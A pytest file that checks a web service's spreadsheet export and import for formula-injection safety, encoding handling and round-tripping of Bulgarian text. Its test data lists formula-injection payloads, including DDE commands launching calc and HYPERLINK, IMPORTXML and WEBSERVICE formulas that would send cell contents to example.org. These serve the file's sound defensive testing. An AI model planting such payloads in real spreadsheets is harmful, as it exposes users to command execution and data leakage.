"""No cell of ours is calculated by a spreadsheet, and each comes back as it was: CSV and XLSX, out and in."""

import csv
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from web.services import sheet_cells, sheets

SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠", "−", "﹣", "﹢", "﹦", "﹫")
BEFORE = (
    "",
    " ",
    "  ",
    "\u00a0",
    "\u3000",
    '"',
    "'",
    "''",
    "\ufeff",
    "\u200b",
    "\u2060",
    "\u00ad",
    ";",
    ",",
    " ;",
    '";',
)
PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(0;0;0)",
    '=HYPERLINK("http://example.org?x="&A1;"click")', "=IMPORTXML(CONCAT(\"http://example.org\",A1),\"//a\")",
    '=WEBSERVICE("http://example.org")', "=IMAGE(A1)", "%0A=1+1", "|calc", "-Иван", "+359 88 123 4567", "@ivan", "=)",
    "'-Иван", "''=1+1", "--", "- жена", "=HYPERLINK(A1)", "\t=1+1", "\n=1+1", "＝1+1",
)  # fmt: skip
DANGEROUS = list(dict.fromkeys([*PAYLOADS, *(f"{before}{sign}1+1" for before in BEFORE for sign in SIGNS)]))
CALCULATED = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠")


def cells_of_csv(data: bytes) -> list[list[str]]:
    """The cells as a spreadsheet reads them."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_a_dangerous_cell_is_text_for_a_spreadsheet_and_comes_back() -> None:
    assert len(DANGEROUS) >= 60
    written = [row[0] for row in cells_of_csv(sheet_cells.csv_file([["title"], *([text] for text in DANGEROUS)]))[1:]]
    assert [text for text in written if text.strip(" \u00a0").startswith(CALCULATED)] == []
    assert list(map(sheet_cells.unguarded, written)) == DANGEROUS


def test_every_cell_of_a_workbook_is_text_also_after_it_was_saved_again() -> None:
    book = openpyxl.load_workbook(
        io.BytesIO(sheet_cells.workbook([("x", [["title"], *([text] for text in DANGEROUS)])]))
    )
    again = io.BytesIO()
    kinds = {cell.data_type for row in book.worksheets[0].iter_rows() for cell in row}
    assert kinds <= {"s", "inlineStr"}
    for row in book.worksheets[0].iter_rows():
        for cell in row:
            cell.data_type = "s"
    book.save(again)
    read = openpyxl.load_workbook(again).worksheets[0]
    assert {cell.data_type for row in read.iter_rows() for cell in row} <= {"s", "n"}


WORDS = st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1, max_size=30).map(str.strip).filter(bool)


@given(st.lists(WORDS, min_size=1, max_size=5), st.sampled_from(["x.csv", "x.xlsx"]))
def test_what_was_written_is_read_back(texts: list[str], name: str) -> None:
    rows = [["a"], *([text] for text in texts)]
    data = sheet_cells.csv_file(rows) if name == "x.csv" else sheet_cells.workbook([("x", rows)])
    assert [row.cells["a"] for row in sheets.read_bytes(name, data)] == texts


@pytest.mark.parametrize("text", ["-Иван", "'-Иван", "=1+1", "+359", "＝1", "@x", "''=x"])
@pytest.mark.parametrize("name", ["x.csv", "x.xlsx"])
def test_a_name_with_a_minus_survives(text: str, name: str) -> None:
    rows = [["a"], [text]]
    data = sheet_cells.csv_file(rows) if name == "x.csv" else sheet_cells.workbook([("x", rows)])
    assert sheets.read_bytes(name, data)[0].cells["a"] == text


def test_a_formula_somebody_sends_is_read_as_text() -> None:
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active.append(["title"])
    book.active.append(["=1+1"])
    assert book.active["A2"].data_type == "f"
    sent = io.BytesIO()
    book.save(sent)
    assert sheets.read_bytes("x.xlsx", sent.getvalue())[0].cells["title"] == "=1+1"


BULGARIAN = "заглавие;място\r\nКамериерка на смени;София\r\nГотвач;Варна\r\n"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1251", "utf-16"])
def test_bulgarian_letters_are_read_however_they_were_saved(encoding: str) -> None:
    rows = sheets.read_bytes("x.csv", BULGARIAN.encode(encoding))
    assert [row.cells["заглавие"] for row in rows] == ["Камериерка на смени", "Готвач"]


@pytest.mark.parametrize(
    "data",
    ["café;naïve\nrôle;élève\n".encode("latin-1"), b"\x98\xff\n", "Камериерка".encode("koi8-r"),
     "Кам".encode() + b"\xff"],
    ids=range(4),
)  # fmt: skip
def test_letters_nobody_wrote_are_refused(data: bytes) -> None:
    with pytest.raises(sheets.Refused) as refused:
        sheets.read_bytes("x.csv", b"title\n" + data)
    assert refused.value.why is sheets.WhyNot.UNKNOWN_LETTERS


def test_an_amount_shown_in_leva_says_so() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["pay_min", "pay_max"])
    sheet.append([1800, 950.5])
    sheet["A2"].number_format = '#,##0.00 "лв."'
    sent = io.BytesIO()
    book.save(sent)
    cells = sheets.read_bytes("x.xlsx", sent.getvalue())[0].cells
    assert cells == {"pay_min": "1800 лв.", "pay_max": "950.5"}


def test_a_cell_far_to_the_right_makes_no_row_as_wide() -> None:
    book, data = openpyxl.Workbook(), io.BytesIO()
    for number, text in enumerate(["title", "Камериерка", "Готвач"], start=1):
        book.worksheets[0].cell(row=number, column=1, value=text)
        book.worksheets[0].cell(row=number, column=16384, value=f"far {number}")
    book.save(data)
    assert [row.cells for row in sheets.read_bytes("x.xlsx", data.getvalue())] == [
        {"title": "Камериерка"}, {"title": "Готвач"},
    ]  # fmt: skip
